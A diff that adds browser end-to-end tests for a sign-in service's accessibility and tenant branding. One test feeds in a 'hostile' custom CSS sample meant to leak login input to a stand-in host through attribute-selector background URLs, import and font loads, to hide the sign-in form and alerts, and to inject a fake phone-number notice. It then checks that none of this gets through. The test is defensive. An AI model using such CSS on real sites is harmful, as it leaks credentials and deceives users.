@@ -1,0 +1,92 @@
+"""What pages look like: accessible in light and dark, on small screens, and in a tenant's own colours."""
+
+from typing import Any
+
+import pytest
+from playwright.async_api import expect
+
+from tests.e2e.browser.conftest import Visit
+from tests.e2e.browser.relying_party import App
+from tests.e2e.world import World
+
+SCREENS = [
+    pytest.param({"color_scheme": "light", "viewport": {"width": 1280, "height": 800}}, id="light"),
+    pytest.param({"color_scheme": "dark", "viewport": {"width": 1280, "height": 800}}, id="dark"),
+    pytest.param({"color_scheme": "light", "viewport": {"width": 320, "height": 640}}, id="small"),
+    pytest.param({"color_scheme": "dark", "viewport": {"width": 320, "height": 640}}, id="small-dark"),
+]
+HOSTILE = """
+@import url(http://127.0.0.2:1/import.css);
+@font-face { font-family: stolen; src: url(http://127.0.0.2:1/font) }
+input[name=login][value^=u] { background: url(http://127.0.0.2:1/letter) }
+.vt-card { background: url(http://127.0.0.2:1/card); font-family: stolen, serif; border-radius: 3rem }
+.vt-form { position: fixed; top: -900px; opacity: 0 }
+.vt-alert { display: none; color: #fff; background: #fff; font-size: 1px }
+.vt-card::before { content: "Please call 0900 123" }
+"""
+
+
+class TestAccessibility:
+    @pytest.mark.parametrize("screen", SCREENS)
+    async def test_pages_of_a_sign_in(
+        self, visit: Visit, consenting_app: App, person: dict[str, Any], screen: dict[str, Any]
+    ) -> None:
+        visitor = await visit(consenting_app.address(scope="openid profile email offline_access"), **screen)
+        await visitor.accessible()
+        await visitor.sign_in(person["username"], "wrong")
+        await expect(visitor.page.get_by_role("alert")).to_be_visible()
+        await visitor.accessible()
+        await visitor.sign_in(person["username"])
+        await visitor.title(f"Allow {consenting_app.name} access?")
+        await visitor.accessible()
+
+    @pytest.mark.parametrize("screen", SCREENS)
+    async def test_a_page_that_says_no(self, visit: Visit, world: World, screen: dict[str, Any]) -> None:
+        visitor = await visit(f"{world.url}/hosted/master/sign-in", **screen)
+        await visitor.title("This sign-in is over")
+        await visitor.page.get_by_text("Technical details").click()
+        await visitor.accessible()
+
+    async def test_dark_is_dark(self, visit: Visit, app: App) -> None:
+        page = (await visit(app.address(), color_scheme="dark")).page
+        card = page.locator(".vt-card")
+        assert await card.evaluate("each => getComputedStyle(each).backgroundColor") == "rgb(23, 26, 33)"
+
+    async def test_nothing_moves_for_those_who_want_it_so(self, visit: Visit, app: App) -> None:
+        page = (await visit(app.address(), reduced_motion="reduce")).page
+        button = page.get_by_role("button", name="Sign in")
+        assert await button.evaluate("each => getComputedStyle(each).transitionDuration") == "0s"
+
+
+class TestBranding:
+    async def _brand(self, world: World, applications: int, **tenant: Any) -> App:
+        company = await world.add_company()
+        await world.admin.update(company.path, tenant)
+        return await App.register(company, applications)
+
+    async def test_a_tenants_colours_stay_legible(self, visit: Visit, world: World, applications: int) -> None:
+        branding = {"background_color": "#fff8e1", "welcome_text": "Hello <b>there</b>"}
+        app = await self._brand(world, applications, primary_color="#ffe066", settings={"branding": branding})
+        for scheme in ("light", "dark"):
+            visitor = await visit(app.address(), color_scheme=scheme)
+            button = visitor.page.get_by_role("button", name="Sign in")
+            assert await button.evaluate("each => getComputedStyle(each).backgroundColor") == "rgb(255, 224, 102)"
+            assert await button.evaluate("each => getComputedStyle(each).color") == "rgb(0, 0, 0)"
+            await expect(visitor.page.get_by_text("Hello <b>there</b>")).to_be_visible()
+            await visitor.accessible()
+
+    async def test_hostile_css_changes_looks_alone(self, visit: Visit, world: World, applications: int) -> None:
+        app = await self._brand(world, applications, settings={"branding": {"custom_css": HOSTILE}})
+        visitor = await visit("about:blank")
+        page, asked = visitor.page, []
+        page.on("request", lambda request: asked.append(request.url))
+        await page.goto(app.address())
+        await visitor.sign_in("user", "wrong")
+        card, alert = page.locator(".vt-card"), page.get_by_role("alert")
+        await expect(alert).to_be_visible()
+        assert await card.evaluate("each => getComputedStyle(each).borderRadius") == "48px"
+        assert await card.evaluate("each => getComputedStyle(each, '::before').content") == "none"
+        assert await alert.evaluate("each => getComputedStyle(each).fontSize") == "15px"
+        await expect(page.get_by_role("button", name="Sign in")).to_be_in_viewport()
+        assert [url for url in asked if "127.0.0.2" in url] == []
+        await visitor.accessible()
